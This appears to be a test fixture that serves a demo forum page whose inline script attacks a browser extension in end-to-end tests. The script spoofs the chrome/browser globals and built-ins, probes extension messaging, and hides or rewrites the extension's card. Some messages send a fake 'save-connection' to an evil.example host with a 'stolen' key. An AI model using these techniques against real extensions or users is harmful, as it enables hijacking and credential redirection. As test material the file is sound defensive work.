/**
 * GET /forum/hostile: a demo forum thread (XenForo markup, the demo players) whose own script
 * attacks the extension from the page's world, for tests/e2e/hostile-pages.spec.ts.
 *
 * On load, before the extension's content script runs (runtime-registered scripts run at
 * document_idle, after inline scripts), the page:
 *   - tries `chrome.runtime.sendMessage(EXTENSION_ID, …)` and `chrome.runtime.connect`
 *     (EXTENSION_ID from `?id=`), and fetches the extension's files by URL;
 *   - defines `window.browser`, `window.chrome`, and the global the card UI registers itself
 *     under (`Symbol.for('network-companion:hover-card-ui')`) with look-alikes that record calls;
 *   - replaces built-ins the extension uses (JSON.parse, fetch, Element.prototype.attachShadow,
 *     Promise.prototype.then for non-page promises is left alone so the page still runs).
 * Everything the page sees or tries is recorded in `window.hostile.log` (strings).
 *
 * On demand (the tests call these through `window.hostile`): post window messages shaped like
 * the extension's requests, dispatch synthetic pointer and focus events on username links,
 * define a custom element with the card host's name, and mutate the card's host element.
 */
import { renderForumPage } from './forum-pages';

/** The page's attack script: plain JavaScript, run in the page's own world. */
export const HOSTILE_PAGE_SCRIPT = `
(() => {
  const log = [];
  const note = (text) => log.push(String(text));
  const params = new URLSearchParams(location.search);
  const extensionId = params.get('id') || '';
  const realChrome = window.chrome;

  // 1. Talk to the extension directly (needs externally_connectable, which it must not have).
  const runtime = realChrome && realChrome.runtime;
  note('chrome.runtime: ' + typeof runtime);
  note('chrome.runtime.sendMessage: ' + typeof (runtime && runtime.sendMessage));
  const attempts = [];
  if (runtime && typeof runtime.sendMessage === 'function' && extensionId) {
    for (const message of [
      { type: 'player', identifier: 'Steve' },
      { type: 'player-card', name: 'Steve' },
      { type: 'connection-status' },
      { type: 'save-connection', baseUrl: 'https://evil.example', apiKey: 'stolen' },
    ]) {
      attempts.push(
        new Promise((resolve) => {
          try {
            runtime.sendMessage(extensionId, message, (reply) => {
              const error = runtime.lastError;
              note('sendMessage ' + message.type + ': ' + (error ? 'error ' + error.message : 'reply ' + JSON.stringify(reply)));
              resolve();
            });
          } catch (error) {
            note('sendMessage ' + message.type + ': threw ' + error);
            resolve();
          }
        }),
      );
    }
  }
  if (runtime && typeof runtime.connect === 'function' && extensionId) {
    try {
      const port = runtime.connect(extensionId);
      port.onDisconnect.addListener(() => note('connect: disconnected'));
      port.postMessage({ type: 'connection-status' });
    } catch (error) {
      note('connect: threw ' + error);
    }
  }
  if (extensionId) {
    for (const file of ['manifest.json', 'hover-card.js', 'popup.html', 'content-scripts/forum.js']) {
      attempts.push(
        fetch('chrome-extension://' + extensionId + '/' + file).then(
          (response) => note('fetch ' + file + ': ' + response.status),
          (error) => note('fetch ' + file + ': failed ' + error.name),
        ),
      );
    }
  }

  // 2. Globals the extension's code might look up: look-alikes that record being used.
  const fakeRuntime = {
    id: 'fake',
    sendMessage: (...args) => note('page-browser.sendMessage used: ' + JSON.stringify(args)),
    getURL: (path) => 'https://evil.example/' + path,
    onMessage: { addListener: () => note('page-browser.onMessage used') },
  };
  const fakeStorage = {
    local: { get: async () => { note('page-browser.storage used'); return {}; } },
    onChanged: { addListener: () => note('page-browser.storage.onChanged used') },
  };
  window.browser = { runtime: fakeRuntime, storage: fakeStorage };
  try {
    Object.defineProperty(window, 'chrome', { value: { runtime: fakeRuntime, storage: fakeStorage }, configurable: true, writable: true });
  } catch (error) {
    note('chrome not replaced: ' + error);
  }
  window[Symbol.for('network-companion:hover-card-ui')] = () => {
    note('page card UI used');
    return { host: null, show() { note('page card UI show'); }, hide() {}, focusables: () => [], activeInCard: () => null };
  };
  const realParse = JSON.parse;
  JSON.parse = function (text, reviver) {
    if (typeof text === 'string' && text.includes('"ok"')) note('page JSON.parse saw a reply');
    return realParse.call(this, text, reviver);
  };
  const realAttachShadow = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    note('page attachShadow on ' + this.localName);
    return realAttachShadow.call(this, init);
  };
  const realFetch = window.fetch;
  window.fetch = function (...args) {
    note('page fetch: ' + String(args[0]));
    return realFetch.apply(this, args);
  };

  const names = () => [...document.querySelectorAll('#thread-posts a.username')];

  window.hostile = {
    log,
    settled: Promise.all(attempts),
    /** Window messages shaped like the extension's requests, to every origin. */
    postMessages() {
      for (const message of [
        { type: 'player-card', name: 'Steve' },
        { type: 'save-connection', baseUrl: 'https://evil.example', apiKey: 'stolen' },
        { type: 'connection-status' },
        { type: 'hover-card-ui' },
        { source: 'network-companion', type: 'open-player-view', name: 'Notch' },
      ]) {
        window.postMessage(message, '*');
        window.dispatchEvent(new CustomEvent('network-companion', { detail: message }));
      }
    },
    /**
     * That many synthetic pointer and focus events (hovers) on one username link after another,
     * everyMs apart; resolves with how long they took on the page's clock (a busy machine stretches it).
     */
    async hoverStorm(hovers, everyMs) {
      const links = names();
      const started = performance.now();
      for (let index = 0; index < hovers; index++) {
        const link = links[index % links.length];
        for (const type of ['pointerover', 'pointerenter', 'mouseover', 'focusin']) {
          const Ctor = type.startsWith('pointer') ? PointerEvent : type === 'focusin' ? FocusEvent : MouseEvent;
          link.dispatchEvent(new Ctor(type, { bubbles: true, composed: true, pointerType: 'mouse' }));
        }
        await new Promise((resolve) => setTimeout(resolve, everyMs));
      }
      return performance.now() - started;
    },
    /** Claims the card host's tag: its constructor gives the element a closed shadow root first. */
    defineCardElement() {
      customElements.define(
        'network-companion-card',
        class extends HTMLElement {
          constructor() {
            super();
            note('page custom element constructed');
            realAttachShadow.call(this, { mode: 'closed' });
          }
        },
      );
    },
    host() {
      return document.querySelector('network-companion-card');
    },
    /** What the page can do to the card's host once it is on the page. */
    mutateHost(kind) {
      const host = this.host();
      if (!host) return 'no host';
      switch (kind) {
        case 'styles':
          host.setAttribute('style', 'display:none !important; opacity:0 !important; visibility:hidden !important; transform:scale(0) !important; pointer-events:none !important');
          host.setAttribute('dir', 'rtl');
          host.className = 'hidden';
          break;
        case 'page-css': {
          const style = document.createElement('style');
          style.textContent = 'network-companion-card, network-companion-card * { display:none !important; opacity:0 !important; color:transparent !important; }';
          document.head.append(style);
          break;
        }
        case 'remove':
          host.remove();
          break;
        case 'empty-shadow':
          if (host.shadowRoot) host.shadowRoot.replaceChildren();
          break;
        case 'rewrite-shadow': {
          const root = host.shadowRoot;
          if (!root) return 'closed';
          for (const node of root.querySelectorAll('h2, p, dd')) node.textContent = 'pwned';
          break;
        }
        case 'move': {
          const trap = document.createElement('div');
          trap.style.cssText = 'position:absolute; width:0; height:0; overflow:hidden; transform:translateX(-9999px)';
          document.body.append(trap);
          trap.append(host);
          break;
        }
      }
      return 'done';
    },
  };
  note('hostile page ready');
})();
`;

/** The demo thread with the attack script added at the end of `<body>` (after the page's own script). */
export function renderHostileForumPage(names: readonly string[]): string {
  const page = renderForumPage('xenforo', { names, count: 12 });
  return page.replace('</body>', `<script>${HOSTILE_PAGE_SCRIPT}</script>\n</body>`);
}
